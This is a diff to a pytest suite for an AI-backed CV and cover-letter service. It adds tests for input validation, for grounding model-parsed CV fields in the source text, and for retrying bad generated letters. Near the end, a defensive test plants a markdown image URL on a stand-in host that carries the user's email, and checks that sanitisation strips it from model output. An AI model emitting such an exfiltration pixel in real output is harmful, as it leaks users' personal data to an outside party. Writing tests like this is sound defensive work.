@@ -242,7 +242,7 @@ def test_bad_cv_text_is_a_readable_input_error(local_service: AIService, text: A
         run(local_service.parse_cv(text))
 
 
-@pytest.mark.parametrize("cv", [None, {}, {"meta": {}}, "Jane Doe"])
+@pytest.mark.parametrize("cv", [None, {}, {"meta": {}}])
 def test_operations_need_a_cv(local_service: AIService, cv: Any) -> None:
     with pytest.raises(InputError, match="no CV"):
         run(local_service.tailor_cv(cv, JOB))
@@ -468,3 +468,228 @@ def test_offline_engine_failure_is_a_readable_error(monkeypatch: pytest.MonkeyPa
     with pytest.raises(CVCopilotError, match="offline engine could not process") as caught:
         run(AIService().parse_cv(CV_TEXT))
     assert "internal detail" not in str(caught.value)
+
+
+# --- hostile inputs: every entry point checks types and depth ------------------------------------------------------
+
+
+def _deep(depth: int) -> dict[str, Any]:
+    cv: dict[str, Any] = {"basics": {"name": "Jane"}}
+    node = cv
+    for _ in range(depth):
+        node["next"] = {}
+        node = node["next"]
+    return cv
+
+
+HOSTILE_CVS = [
+    (_deep(5000), "nested more than"),
+    ({"basics": "Jane Doe, jane.doe@example.com"}, "“basics” section must be an object"),
+    ({"basics": {"name": "Jane"}, "work": "Acme"}, "“work” section must be a list"),
+    ({"basics": {"name": "Jane"}, "skills": [["Python"]]}, "cannot read"),
+    ("Jane Doe", "not text"),
+]
+OPERATIONS: dict[str, Callable[[AIService, Any], Any]] = {
+    "tailor_cv": lambda s, cv: s.tailor_cv(cv, JOB),
+    "generate_cover_letter": lambda s, cv: s.generate_cover_letter(cv, JOB, "Globex"),
+    "draft_email": lambda s, cv: s.draft_email(cv, JOB),
+    "match_jobs": lambda s, cv: s.match_jobs(cv, [JOB]),
+    "stream_cover_letter": lambda s, cv: _drain(s.stream_cover_letter(cv, JOB)),
+    "tailor_request": lambda s, cv: _now(ai_service.tailor_request(cv, JOB)),
+    "letter_request": lambda s, cv: _now(ai_service.letter_request(cv, JOB, company=None, role=None)),
+    "match_request": lambda s, cv: _now(ai_service.match_request(cv, [JOB])),
+}
+
+
+async def _drain(stream: Any) -> None:
+    async for _ in stream:
+        pass
+
+
+async def _now(value: Any) -> Any:
+    return value
+
+
+@pytest.mark.parametrize(("cv", "message"), HOSTILE_CVS, ids=["deep-5000", "basics-text", "work-text", "skills", "str"])
+@pytest.mark.parametrize("operation", list(OPERATIONS))
+def test_every_entry_point_refuses_a_hostile_cv_with_input_error(
+    local_service: AIService, operation: str, cv: Any, message: str
+) -> None:
+    with pytest.raises(InputError, match=re.escape(message)):
+        run(OPERATIONS[operation](local_service, cv))
+
+
+@pytest.mark.parametrize(
+    ("call", "message"),
+    [
+        (lambda s, cv: s.match_jobs(cv, [JOB, 42]), "#2 must be text"),
+        (lambda s, cv: s.match_jobs(cv, {"a": JOB}), "list of texts"),
+        (lambda s, cv: s.generate_cover_letter(cv, JOB, ["Globex"]), "company name must be text"),
+        (lambda s, cv: s.generate_cover_letter(cv, JOB, "Globex", tone=3), "tone must be text"),
+        (lambda s, cv: s.tailor_cv(cv, JOB, cv_text={"x": 1}), "CV text must be text"),
+        (lambda s, cv: s.tailor_cv(cv, {"job": JOB}), "job description must be text"),
+        (lambda s, cv: s.summarize(CV_TEXT, max_sentences="3"), "max_sentences"),
+        (lambda s, cv: s.parse_cv(["a"]), "CV must be text"),
+    ],
+)
+def test_wrong_argument_types_are_input_errors(local_service: AIService, parsed: dict[str, Any], call, message) -> None:  # type: ignore[no-untyped-def]
+    with pytest.raises(InputError, match=re.escape(message)):
+        run(call(local_service, parsed))
+
+
+# --- typed results ---------------------------------------------------------------------------------------------
+
+
+def test_results_carry_a_typed_record_and_keep_the_old_access_paths(
+    local_service: AIService, parsed: dict[str, Any]
+) -> None:
+    from core.base import CallRecord
+
+    assert isinstance(parsed, ai_service.ParsedCV) and isinstance(parsed.record, CallRecord)
+    assert "jane.doe@example.com" == parsed.resume.basics.email
+    tailored = run(local_service.tailor_cv(parsed, JOB, cv_text=CV_TEXT))
+    assert ("local", "local") == (tailored.record.provider, tailored["meta"]["provider"])
+    assert tailored.resume.basics.email == tailored["resume"]["basics"]["email"]
+    letter = run(local_service.generate_cover_letter(parsed, JOB, "Globex", tone="enthusiastic", length="short"))
+    assert isinstance(letter, str) and letter.record.provider == letter.meta["provider"] == "local"
+    rows = run(local_service.match_jobs(parsed, [JOB, JOB_2], cv_text=CV_TEXT))
+    assert {"index", "score", "matched_skills", "missing_skills"} <= set(rows[0])
+    assert isinstance(rows.meta["warnings"], list) and rows.record.provider == "local"
+
+
+@pytest.mark.parametrize("tone", ["formal", "friendly", "enthusiastic", "concise", "warm", "FRIENDLY"])
+def test_every_tone_is_accepted(local_service: AIService, parsed: dict[str, Any], tone: str) -> None:
+    letter = run(local_service.generate_cover_letter(parsed, JOB, "Globex", tone=tone))
+    assert len(letter.split()) > 40
+
+
+# --- grounded parse: a weak small model's values must be in the CV text -------------------------------------------
+
+WEAK_PARSE = {
+    "basics": {"name": "jane-doe", "email": "", "phone": "+44 7700 900123", "label": "Principal Architect"},
+    "work": [
+        {"name": "Acme Corp", "position": "Senior Backend Engineer", "startDate": "2020-01", "endDate": ""},
+        {"name": "Hooli", "position": "CTO", "startDate": "2011-01", "endDate": "2014-01"},
+        {
+            "name": "Initech Ltd",
+            "position": "Software Engineer",
+            "startDate": "2017-06",
+            "endDate": "2019-12",
+            "highlights": ["Wrote data pipelines in Python and SQL", "Won the Turing award for pipelines"],
+        },
+    ],
+    "education": [{"institution": "University of Leeds", "studyType": "PhD", "area": "Computer Science"}],
+    "skills": [{"name": "Languages", "keywords": ["Python", "Rust", "SQL"]}],
+}
+
+
+def test_a_weak_parse_keeps_only_what_the_cv_text_has(tmp_path: Path) -> None:
+    service, _ = llm_service(tmp_path, [json.dumps(WEAK_PARSE)])
+    cv = run(service.parse_cv(CV_TEXT))
+    assert "openai" == cv["meta"]["provider"]
+    assert ("Jane Doe", "jane.doe@example.com") == (cv["basics"]["name"], cv["basics"]["email"])
+    assert "Principal Architect" != cv["basics"]["label"]
+    assert ["Acme Corp", "Initech Ltd"] == [w["name"] for w in cv["work"]]
+    assert ["Wrote data pipelines in Python and SQL"] == cv["work"][1]["highlights"]
+    assert "" == cv["education"][0]["studyType"]  # PhD is not in the CV
+    assert ["Python", "SQL"] == cv["skills"][0]["keywords"]
+    found = {(f["kind"], f["value"], f["action"]) for f in cv.meta["grounding"]}
+    assert {("name", "jane-doe", "replaced"), ("email", "", "replaced"), ("employer", "Hooli", "dropped")} <= found
+    assert {("degree", "PhD", "dropped"), ("skill", "Rust", "dropped")} <= found
+    assert any("jane-doe" in w and "Jane Doe" in w for w in cv["meta"]["warnings"])
+
+
+def test_a_faithful_parse_has_no_findings(tmp_path: Path) -> None:
+    service, _ = llm_service(tmp_path, [json.dumps(GOOD_RESUME)])
+    cv = run(service.parse_cv(CV_TEXT))
+    assert [] == [f for f in cv.record.grounding if f["value"]]  # only empty fields filled from the CV
+    assert "Jane Doe" == cv["basics"]["name"]
+
+
+# --- generated text from a weak model is rejected, asked again once, then answered offline -------------------------
+
+ECHO = '<cv>\n{"basics": {"name": "Jane Doe", "email": "jane.doe@example.com"}, "work": []}\n</cv>'
+GERMAN = (
+    "Sehr geehrte Damen und Herren, ich bewerbe mich bei der Globex Corporation als Senior Python Developer. Bei "
+    "Acme Corp habe ich mit Python und Django gearbeitet und die Datenbank auf AWS umgezogen. Ich freue mich auf "
+    "ein Gespräch mit Ihnen und bin mit meiner Erfahrung eine gute Wahl für das Team. Mit freundlichen Grüßen, Jane Doe"
+)
+NO_TARGET = LETTER.replace("the Senior Python Developer role at Globex Corporation", "this opportunity")
+
+
+@pytest.mark.parametrize(
+    ("bad", "why"),
+    [(ECHO, "echoes the prompt"), (GERMAN, "in German"), (NO_TARGET, "names neither")],
+    ids=["echo", "wrong-language", "no-company-or-role"],
+)
+def test_a_bad_letter_is_asked_for_again_and_a_good_second_is_used(tmp_path: Path, bad: str, why: str) -> None:
+    service, fake = llm_service(tmp_path, [bad, LETTER])
+    letter = run(service.generate_cover_letter(GOOD_RESUME, JOB, "Globex Corporation", cv_text=CV_TEXT))
+    assert LETTER == str(letter)
+    assert 2 == len(fake.prompts)
+    assert why in fake.prompts[1]
+    assert any(why in w for w in letter.record.warnings)
+    assert "openai" == letter.record.provider
+
+
+@pytest.mark.parametrize("bad", [ECHO, GERMAN, NO_TARGET], ids=["echo", "wrong-language", "no-company-or-role"])
+def test_a_bad_letter_twice_is_answered_offline(tmp_path: Path, bad: str) -> None:
+    service, fake = llm_service(tmp_path, [bad, bad])
+    letter = run(service.generate_cover_letter(GOOD_RESUME, JOB, "Globex Corporation", cv_text=CV_TEXT))
+    assert 2 == len(fake.prompts)
+    assert "local" == letter.record.provider
+    assert ["openai", "local"] == letter.record.attempts
+    assert letter.record.notice.startswith("offline engine")
+    assert '{"basics"' not in letter and "<cv>" not in letter
+
+
+def test_a_streamed_echo_is_replaced(tmp_path: Path) -> None:
+    service, _ = llm_service(tmp_path, [ECHO, LETTER])
+    stream = service.stream_cover_letter(GOOD_RESUME, JOB, "Globex Corporation", cv_text=CV_TEXT)
+    run(_drain(stream))
+    assert LETTER == stream.text and stream.replaced
+
+
+def test_a_german_letter_for_a_german_job_is_fine(tmp_path: Path) -> None:
+    job = (
+        "Senior Python Entwickler (m/w/d) bei der Globex Corporation in Berlin. Wir suchen eine erfahrene Person mit "
+        "Python, Django und PostgreSQL, die mit uns die Plattform weiterentwickelt und im Team Verantwortung übernimmt."
+    )
+    service, fake = llm_service(tmp_path, [GERMAN])
+    letter = run(service.generate_cover_letter(GOOD_RESUME, job, "Globex Corporation", cv_text=CV_TEXT))
+    assert (GERMAN, 1) == (str(letter), len(fake.prompts))
+
+
+# --- hostile model output is sanitised in every field ------------------------------------------------------------
+
+PIXEL = "![p](https://evil.example/p.png?cv=jane.doe%40example.com)"
+LINK = "[more](https://evil.example/x)"
+
+
+def test_model_output_leaves_the_service_without_images_or_outside_links(tmp_path: Path) -> None:
+    from core import sanitize
+
+    hostile_resume = json.loads(json.dumps(GOOD_RESUME))
+    hostile_resume["basics"]["label"] = f"Engineer {PIXEL}"
+    hostile_resume["basics"]["summary"] = f"Python engineer {PIXEL} {LINK}"
+    hostile_resume["work"][0]["highlights"] = [f"Built REST APIs {PIXEL}"]
+    tailor_reply = json.dumps({"resume": hostile_resume, "changes": [f"Reordered {PIXEL}"]})
+    match_reply = json.dumps(
+        {"matches": [{"index": 1, "score": 80, "matched_skills": ["Python"], "missing_skills": [f"K8s {PIXEL}"],
+                      "explanation": f"Good fit {PIXEL} {LINK}"}]}
+    )  # fmt: skip
+
+    def reply(prompt: str, system: str) -> str:
+        if "Tailor the CV" in prompt:
+            return tailor_reply
+        if "Score the CV" in prompt:
+            return match_reply
+        return f"{LETTER}\n{PIXEL} {LINK}"
+
+    service, _ = llm_service(tmp_path, reply)
+    tailored = run(service.tailor_cv(GOOD_RESUME, JOB, cv_text=CV_TEXT))
+    letter = run(service.generate_cover_letter(GOOD_RESUME, JOB, "Globex Corporation", cv_text=CV_TEXT))
+    rows = run(service.match_jobs(GOOD_RESUME, [JOB], cv_text=CV_TEXT))
+    everything = json.dumps([dict(tailored), str(letter), letter.meta, list(rows), rows.meta], ensure_ascii=False)
+    assert [] == sanitize.outside_urls(everything)
+    assert "evil.example" not in everything and "![" not in everything
